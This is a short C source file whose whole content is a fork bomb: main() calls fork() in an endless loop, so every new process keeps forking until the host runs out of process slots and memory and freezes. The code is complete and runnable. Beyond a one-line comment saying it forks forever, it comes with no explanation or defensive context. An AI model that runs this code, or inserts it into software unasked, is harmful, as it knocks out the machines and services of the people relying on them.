// Forks in every process, for ever.
#include <unistd.h>

int main(void) {
    for (;;) fork();
}
